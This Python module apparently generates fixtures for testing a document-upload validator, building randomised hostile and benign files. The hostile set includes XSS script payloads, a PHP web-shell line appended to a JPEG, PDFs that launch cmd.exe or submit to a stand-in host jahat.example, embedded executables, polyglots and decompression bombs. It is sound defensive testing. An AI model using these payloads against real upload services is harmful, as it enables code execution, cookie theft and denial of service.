"""
Files as an attacker sends them, and files as people send them, made anew for each run from a seed.

Each kind is a function of a random generator, so that no two files are the same. Not here: sending and judging (``uploads``).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from random import Random
from typing import Any, Final

import pikepdf
import pillow_heif
from PIL import Image, ImageDraw

Made = tuple[str, bytes]
_PAGE: Final = (300, 400)


def hostile(count: int, seed: int) -> Iterator[tuple[str, str, bytes]]:
    """Give ``count`` hostile files as (kind, name, content), every kind in its turn."""
    rng = Random(seed)
    kinds = list(HOSTILE.items())
    for number in range(count):
        kind, make = kinds[number % len(kinds)]
        name, content = make(rng)
        yield kind, name, content


def good(count: int, seed: int) -> Iterator[tuple[str, str, bytes]]:
    """Give ``count`` ordinary files as (kind, name, content)."""
    rng = Random(seed + 1)
    kinds = list(GOOD.items())
    for number in range(count):
        kind, make = kinds[number % len(kinds)]
        name, content = make(rng)
        yield kind, name, content


def _picture(rng: Random, mode: str = "RGB", size: tuple[int, int] | None = None) -> Image.Image:
    """Draw something a camera might have seen: colours, lines, no two the same."""
    width, height = size or (rng.randint(200, 1400), rng.randint(200, 1400))
    picture = Image.new("RGB", (width, height), tuple(rng.randrange(256) for _ in range(3)))
    pen = ImageDraw.Draw(picture)
    for _ in range(12):
        box = [rng.randrange(width), rng.randrange(height), rng.randrange(width), rng.randrange(height)]
        pen.line(box, fill=tuple(rng.randrange(256) for _ in range(3)), width=rng.randint(1, 20))
    return picture.convert(mode)


def _encoded(picture: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _jpeg(rng: Random, **options: Any) -> bytes:
    return _encoded(_picture(rng), "JPEG", quality=rng.randint(40, 92), **options)


def _pdf(rng: Random, change: Callable[[pikepdf.Pdf], None] | None = None, **save: Any) -> bytes:
    with pikepdf.new() as pdf:
        for _ in range(rng.randint(1, 4)):
            pdf.add_blank_page(page_size=_PAGE)
            text = f"BT /F1 14 Tf 40 300 Td (Surat {rng.randrange(10**6)}) Tj ET".encode()
            page = pdf.pages[-1]
            page.Contents = pdf.make_stream(text)
            font = pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
            )
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        pdf.docinfo["/Author"] = "GPS-JALAN-MASTRIP"
        if change is not None:
            change(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _chunk(kind: bytes, data: bytes, *, crc: int | None = None) -> bytes:
    check = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def _png_claiming(width: int, height: int, *, bits: int = 1, data: bytes = b"\0" * 1000) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(data, 9))
        + _chunk(b"IEND", b"")
    )


def _zip(rng: Random, name: str = "a.txt") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, str(rng.random()) * 20)
    return out.getvalue()


def _cut(content: bytes, rng: Random) -> bytes:
    return content[: rng.randint(4, max(5, len(content) * 9 // 10))]


def _flipped(content: bytes, rng: Random, times: int) -> bytes:
    changed = bytearray(content)
    for _ in range(times):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def _opening(kind: str, **more: Any) -> Callable[[Random], Made]:
    def make(rng: Random) -> Made:
        def change(pdf: pikepdf.Pdf) -> None:
            pdf.Root.OpenAction = _action(kind, **more)

        return "surat.pdf", _pdf(rng, change)

    return make


def _on_a_link(rng: Random) -> Made:
    def change(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=_action("Launch", F="cmd.exe"),
        )
        pdf.pages[0].Annots = pikepdf.Array([link])

    return "surat.pdf", _pdf(rng, change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _with_attachment(rng: Random) -> Made:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[f"tagihan{rng.randrange(99)}.exe"] = b"MZ" + rng.randbytes(200)

    return "surat.pdf", _pdf(rng, change)


def _with_form_script(rng: Random) -> Made:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA="<xdp/>", Fields=pikepdf.Array([]))

    return "surat.pdf", _pdf(rng, change)


def _in_the_names(rng: Random) -> Made:
    def change(pdf: pikepdf.Pdf) -> None:
        script = _action("JavaScript", JS=f"app.alert({rng.randrange(99)})")
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))

    return "surat.pdf", _pdf(rng, change)


def _pdf_bomb(layers: int) -> Callable[[Random], Made]:
    def make(rng: Random) -> Made:
        data = zlib.compress(b"0" * rng.randint(125_000_000, 135_000_000), 9)
        names = "/FlateDecode"
        if layers == 2:
            data, names = zlib.compress(data, 9), "[/FlateDecode /FlateDecode]"
        return "surat.pdf", _by_hand(f"/Filter {names}", data)

    return make


def _by_hand(about: str, data: bytes) -> bytes:
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
    page = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj "
    stream = f"4 0 obj<</Length {len(data)} {about}>>stream\n".encode() + data + b"\nendstream endobj\n"
    body = head + page + stream
    marks = [body.index(f"{n} 0 obj".encode()) for n in (1, 2, 3, 4)]
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % mark for mark in marks)
    return body + table + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(body)


def _many_pages(rng: Random) -> Made:
    with pikepdf.new() as pdf:
        for _ in range(rng.randint(41, 90)):
            pdf.add_blank_page(page_size=_PAGE)
        out = io.BytesIO()
        pdf.save(out)
    return "surat.pdf", out.getvalue()


def _deep(rng: Random) -> Made:
    depth = rng.randint(200, 3000)
    return "surat.pdf", _by_hand("/X " + "[" * depth + "]" * depth, b"q Q")


def _encrypted(rng: Random) -> Made:
    return "surat.pdf", _pdf(rng, encryption=pikepdf.Encryption(owner="a", user="b"))


def _heic(rng: Random, size: tuple[int, int] | None = None) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(_picture(rng, size=size or (320, 240))).save(out, quality=50)
    return out.getvalue()


SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
#: Every kind must be refused, or come in as a picture or paper made anew.
HOSTILE: Final[dict[str, Callable[[Random], Made]]] = {
    "svg": lambda r: ("ktp.svg", SVG),
    "svg as jpg": lambda r: ("ktp.jpg", SVG + r.randbytes(50)),
    "html as jpg": lambda r: ("ktp.jpg", b"<!doctype html><script>alert(1)</script>" + r.randbytes(50)),
    "program as jpg": lambda r: ("ktp.jpg", b"MZ" + r.randbytes(400)),
    "gif as jpg": lambda r: ("ktp.jpg", _encoded(_picture(r, size=(60, 60)), "GIF")),
    "tiff as png": lambda r: ("ktp.png", _encoded(_picture(r, size=(60, 60)), "TIFF")),
    "pdf as jpg": lambda r: ("ktp.jpg", _pdf(r)),
    "jpg as pdf": lambda r: ("surat.pdf", _jpeg(r)),
    "two extensions": lambda r: ("ktp.jpg.exe", _jpeg(r)),
    "no extension": lambda r: ("ktp", _jpeg(r)),
    "empty": lambda r: ("ktp.jpg", b""),
    "noise as jpg": lambda r: ("ktp.jpg", b"\xff\xd8\xff\xe0" + r.randbytes(3000)),
    "noise as png": lambda r: ("ktp.png", b"\x89PNG\r\n\x1a\n" + r.randbytes(3000)),
    "noise as pdf": lambda r: ("surat.pdf", b"%PDF-1.7\n" + r.randbytes(3000) + b"\n%%EOF"),
    "noise as webp": lambda r: ("ktp.webp", b"RIFF\x10\x0b\0\0WEBPVP8 " + r.randbytes(3000)),
    "noise as heic": lambda r: ("ktp.heic", b"\0\0\0\x18ftypheic" + r.randbytes(3000)),
    "cut jpg": lambda r: ("ktp.jpg", _cut(_jpeg(r), r)),
    "cut png": lambda r: ("ktp.png", _cut(_encoded(_picture(r, size=(300, 200)), "PNG"), r)),
    "cut heic": lambda r: ("ktp.heic", _cut(_heic(r), r)),
    "cut pdf": lambda r: ("surat.pdf", _cut(_pdf(r), r)),
    "bent jpg": lambda r: ("ktp.jpg", _flipped(_jpeg(r), r, 60)),
    "bent png": lambda r: ("ktp.png", _flipped(_encoded(_picture(r, size=(300, 200)), "PNG"), r, 30)),
    "bent heic": lambda r: ("ktp.heic", _flipped(_heic(r), r, 40)),
    "bent webp": lambda r: ("ktp.webp", _flipped(_encoded(_picture(r, size=(300, 200)), "WEBP"), r, 30)),
    "bent pdf": lambda r: ("surat.pdf", _flipped(_pdf(r), r, 30)),
    "png with wrong crc": lambda r: ("ktp.png", _bad_crc(r)),
    "png of huge size": lambda r: (
        "ktp.png",
        _png_claiming(r.randint(20_000, 60_000), r.randint(20_000, 60_000)),
    ),
    "png of impossible size": lambda r: ("ktp.png", _png_claiming(2**31 - 1, r.randint(1, 9))),
    "png bomb": lambda r: ("ktp.png", _png_claiming(7000, 7000, bits=8, data=b"\0" * (7000 * 7001))),
    "png with endless text": lambda r: ("ktp.png", _text_bomb(r)),
    "jpg of huge size": lambda r: ("ktp.jpg", _jpeg_claiming(r)),
    "jpg and html": lambda r: ("ktp.jpg", _jpeg(r) + b"<html><script>alert(1)</script></html>"),
    "jpg with html inside": lambda r: (
        "ktp.jpg",
        _jpeg(r, comment=b"<script>alert(document.cookie)</script>"),
    ),
    "jpg and php": lambda r: ("ktp.jpg", _jpeg(r) + b"<?php system($_GET[0]);"),
    "jpg and zip": lambda r: ("ktp.jpg", _jpeg(r) + _zip(r)),
    "jpg and jar": lambda r: ("ktp.jpg", _jpeg(r) + _zip(r, "META-INF/MANIFEST.MF")),
    "gif and jar": lambda r: ("ktp.jpg", _encoded(_picture(r, size=(60, 60)), "GIF") + _zip(r, "Main.class")),
    "jpg and pdf": lambda r: ("ktp.jpg", _jpeg(r) + _pdf(r)),
    "pdf and zip": lambda r: ("surat.pdf", _pdf(r) + _zip(r)),
    "pdf behind noise": lambda r: ("surat.pdf", r.randbytes(40) + _pdf(r)),
    "pdf with script": _opening("JavaScript", JS="app.alert(1)"),
    "pdf that launches": _opening("Launch", F="cmd.exe"),
    "pdf that sends": _opening("SubmitForm", F="https://jahat.example/"),
    "pdf that goes elsewhere": _opening("GoToR", F="//jahat.example/a.pdf", D="a"),
    "pdf link that launches": _on_a_link,
    "pdf with a script by name": _in_the_names,
    "pdf with a program": _with_attachment,
    "pdf with a form program": _with_form_script,
    "pdf with a password": _encrypted,
    "pdf of many pages": _many_pages,
    "pdf nested deep": _deep,
    "pdf bomb": _pdf_bomb(1),
    "pdf bomb in a bomb": _pdf_bomb(2),
}


def _bad_crc(rng: Random) -> bytes:
    whole = bytearray(_encoded(_picture(rng, size=(200, 100)), "PNG"))
    whole[29:33] = rng.randbytes(4)
    return bytes(whole)


def _text_bomb(rng: Random) -> bytes:
    start = _encoded(_picture(rng, size=(60, 60)), "PNG")
    packed = zlib.compress(b"a" * 80_000_000, 9)
    return start[:33] + _chunk(b"zTXt", b"Comment\0\0" + packed) + start[33:]


def _jpeg_claiming(rng: Random) -> bytes:
    whole = bytearray(_jpeg(rng))
    at = whole.find(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(whole)


def _with_exif(rng: Random) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = rng.randint(1, 8)
    exif[0x010E] = "GPS-JALAN-MASTRIP"
    return _jpeg(rng, exif=exif)


def _scan(rng: Random) -> Made:
    """A paper as a scanner application makes it: one JPEG a page."""
    pages = [_picture(rng, size=(700, 990)) for _ in range(rng.randint(1, 3))]
    out = io.BytesIO()
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:])
    return "kk.pdf", out.getvalue()


def _with_links(rng: Random) -> Made:
    def change(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 90, 20],
            A=_action("URI", URI="https://probolinggokota.go.id/"),
        )  # fmt: skip
        pdf.pages[0].Annots = pikepdf.Array([link])
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Halaman 1", 0))

    return "surat.pdf", _pdf(rng, change)


GOOD: Final[dict[str, Callable[[Random], Made]]] = {
    "jpg": lambda r: ("ktp.jpg", _jpeg(r)),
    "jpg of a phone": lambda r: ("KTP.JPEG", _with_exif(r)),
    "jpg progressive": lambda r: ("ktp.jpg", _jpeg(r, progressive=True, optimize=True)),
    "jpg grey": lambda r: ("ktp.jpg", _encoded(_picture(r, "L"), "JPEG")),
    "jpg for print": lambda r: ("ktp.jpg", _encoded(_picture(r, "CMYK"), "JPEG")),
    "jpg large": lambda r: ("ktp.jpg", _encoded(_picture(r, size=(4000, 3000)), "JPEG", quality=85)),
    "jpg small": lambda r: ("ttd.jpg", _encoded(_picture(r, size=(40, 30)), "JPEG")),
    "png": lambda r: ("ktp.png", _encoded(_picture(r), "PNG")),
    "png clear": lambda r: ("ktp.png", _encoded(_picture(r, "RGBA"), "PNG")),
    "png few colours": lambda r: ("ktp.png", _encoded(_picture(r).quantize(64), "PNG", optimize=True)),
    "png black and white": lambda r: ("ttd.png", _encoded(_picture(r, "1"), "PNG")),
    "png 16 bit": lambda r: ("ktp.png", _encoded(Image.new("I;16", (300, 200), r.randrange(65_535)), "PNG")),
    "webp": lambda r: ("ktp.webp", _encoded(_picture(r), "WEBP", quality=70)),
    "webp exact": lambda r: ("ktp.webp", _encoded(_picture(r), "WEBP", lossless=True)),
    "heic of a phone": lambda r: ("IMG_0042.HEIC", _heic(r)),
    "pdf": lambda r: ("surat.pdf", _pdf(r)),
    "pdf packed": lambda r: (
        "surat.pdf",
        _pdf(r, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True),
    ),
    "pdf for the web": lambda r: ("surat.pdf", _pdf(r, linearize=True)),
    "pdf of 2005": lambda r: (
        "surat.pdf",
        _pdf(r, force_version="1.4", object_stream_mode=pikepdf.ObjectStreamMode.disable),
    ),
    "pdf 2.0": lambda r: ("surat.pdf", _pdf(r, min_version="2.0")),
    "pdf with links": _with_links,
    "pdf of a scanner": _scan,
}
